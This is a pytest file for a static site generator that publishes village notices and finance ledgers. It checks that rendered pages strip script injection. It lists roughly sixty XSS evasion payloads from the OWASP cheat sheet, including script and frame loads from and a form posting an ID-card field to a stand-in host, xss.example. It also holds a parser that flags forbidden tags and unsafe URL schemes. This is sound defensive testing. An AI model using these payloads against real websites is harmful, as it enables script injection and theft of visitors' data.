"""Script injection: no content file can make a page run script or load from elsewhere.

The vectors follow the OWASP XSS filter evasion cheat sheet. Each goes into a Markdown
body, a front matter title and a ledger line; the built pages must hold no script,
event handler, javascript:/data: link, frame, form, object or style injection.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from gongkai.read.markup import render_markdown
from tests.helpers.sites import LEDGER, NOTICE

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114"
    "&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116"
    "&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;"
    "&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<SCRIPT/XSS SRC=\"http://xss.example/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=//xss.example/.j>",
    "<iframe src=http://xss.example/scriptlet.html <",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<STYLE>@import'http://xss.example/xss.css';</STYLE>",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,"
    "PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%\">假通知</p>",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.example/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH\" AllowScriptAccess=\"always\">",
    "<form action=\"http://xss.example/\"><input name=\"身份证\"><button>提交</button></form>",
    "<a href=\"javascript:alert(1)\">点击</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">点击</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">点击</a>",
    "<a href=\"vbscript:msgbox(1)\">点击</a>",
    "[点击](javascript:alert(1))",
    "[点击](JAVASCRIPT:alert(1))",
    "[点击](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![图](javascript:alert(1))",
    "![图](x\" onerror=\"alert(1))",
    "<a href=\"https://example.com\" onclick=\"alert(1)\">链接</a>",
    "<base href=\"http://xss.example/\">",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=\"alert(1)\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "\"><script>alert(1)</script>",
    "'';!--\"<XSS>=&{()}",
]

FORBIDDEN_TAGS = {"script", "iframe", "frame", "frameset", "object", "embed", "form", "input",
                  "button", "style", "base", "svg", "math", "video", "audio", "source",
                  "details", "noscript", "textarea", "select", "applet"}
# The theme's own head and body: the only places these tags may stand.
THEME_TAGS = {"html", "head", "meta", "title", "link", "body"}
# The theme's search script, hashed like the stylesheet and served by the site itself.
THEME_SCRIPT = re.compile(r"(?:\.\./)*assets/search\.[0-9a-f]{10}\.js")
URL_ATTRIBUTES = {"href", "src", "background", "action", "formaction", "data", "poster"}
SAFE_SCHEMES = {"http", "https", "mailto", "tel"}


class Dangers(HTMLParser):
    """Parse HTML as a browser would and list what could run script or load elsewhere."""

    def __init__(self, theme: bool) -> None:
        super().__init__(convert_charrefs=True)
        self.allowed_tags = THEME_TAGS if theme else set()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        # The theme's own charts are inline SVG images; nothing else may bring SVG in.
        chart = tag == "svg" and bool(self.allowed_tags) and (
            ("role", "img") in attrs or ("class", "qr-svg") in attrs)
        # The finance page's lines open on a tap: the theme's own <details class="line">,
        # with no other attribute (an ontoggle from content would be listed below anyway).
        line = tag == "details" and bool(self.allowed_tags) and attrs == [("class", "line")]
        # The theme's own search box: a role="search" form, its search field and button.
        search = bool(self.allowed_tags) and (
            (tag == "form" and ("role", "search") in attrs)
            or (tag == "input" and ("type", "search") in attrs)
            or (tag == "button" and attrs == [("type", "submit")])
            # and the script that shows its results: the theme's own, from the site itself.
            or (tag == "script" and len(attrs) == 2 and ("defer", None) in attrs
                and THEME_SCRIPT.fullmatch(dict(attrs).get("src") or "") is not None))
        if (tag in FORBIDDEN_TAGS and not chart and not line and not search) or \
                (tag in THEME_TAGS and tag not in self.allowed_tags):
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            text = "".join(ch for ch in (value or "") if ch > " ").lower()  # as URL parsers do
            if name.startswith("on") or name in ("style", "srcdoc", "http-equiv"):
                self.found.append(f"<{tag} {name}>")
            elif name in URL_ATTRIBUTES and ":" in text.split("/")[0]:
                if text.split(":")[0] not in SAFE_SCHEMES:
                    self.found.append(f"<{tag} {name}={value}>")
            elif tag == "img" and name == "src" and (text.startswith("//") or ":" in text):
                self.found.append(f"<img src={value}> loads from another host")


def dangers(html: str, theme: bool = False) -> list[str]:
    """Return every construct in HTML that could run script or load from elsewhere."""
    parser = Dangers(theme)
    parser.feed(html)
    parser.close()
    return parser.found


@pytest.mark.parametrize("vector", VECTORS)
def test_markdown_never_keeps_a_vector(vector):
    html = render_markdown(f"公示内容\n\n{vector}\n\n结尾 {vector} 文字")
    assert dangers(html) == []


def test_the_checker_catches_the_vectors_unsanitised():
    # Guard against a checker that cannot fail: fed raw, nearly every vector is caught.
    missed = [v for v in VECTORS if not dangers(v)]
    # Markdown-only vectors ([x](javascript:...)) and plain text are not HTML yet.
    assert len(missed) <= 10, missed


def test_hostile_content_builds_pages_with_no_script(make_site, run):
    body = "\n\n".join(VECTORS)
    title = "<script>alert(1)</script>\" onmouseover=\"alert(1)"
    notice = NOTICE.replace("title: 关于村内道路硬化工程的公示", f"title: '{title}'") + "\n" + body
    ledger = LEDGER.replace("item: 路灯维修", "item: \"<img src=x onerror=alert(1)>\"") + \
        "note: |\n" + "".join(f"  {line}\n" for line in body.splitlines())
    root = make_site({"content/qingshan/affairs/道路硬化公示.md": notice,
                      "content/qingshan/finance/2025-03.yaml": ledger})
    code, _out, err = run("build", "--site", root)
    assert code == 0, err
    pages = sorted((root / "public").rglob("*.html"))
    assert len(pages) == 19  # the base site's pages, town pages included
    for page in pages:
        assert dangers(page.read_text(), theme=True) == [], page.name
    # The title is shown to residents as the text it is, escaped.
    item = (root / "public/qingshan/affairs/道路硬化公示.html").read_text()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;&#34; onmouseover=&#34;alert(1)" in item


def test_links_keep_only_safe_schemes():
    html = render_markdown("[官网](https://example.gov.cn) [电话](tel:0579-86000001) "
                           "[信](mailto:a@example.cn) [坏](javascript:alert(1))")
    assert 'href="https://example.gov.cn"' in html and 'href="tel:0579-86000001"' in html
    assert 'href="mailto:a@example.cn"' in html and "javascript" not in html


def test_no_page_loads_from_another_host_even_if_content_asks(make_site, run):
    notice = NOTICE + "\n![远程图片](https://tracker.example/pixel.png)\n"
    root = make_site({"content/qingshan/affairs/道路硬化公示.md": notice})
    code, _out, err = run("build", "--site", root)
    assert code == 0
    assert err == ("content/qingshan/affairs/道路硬化公示.md:9: 警告：图片 "
                   "“https://tracker.example/pixel.png” 不是本网站的文件，已略去（否则每位村民的手机"
                   "都会去别处下载它）；请把图片放在 files/ 文件夹中，再从那里显示\n")
    html = (root / "public/qingshan/affairs/道路硬化公示.html").read_text()
    assert '<img alt="远程图片">' in html
    assert not re.search(r"<img[^>]+src=\"https?://", html)

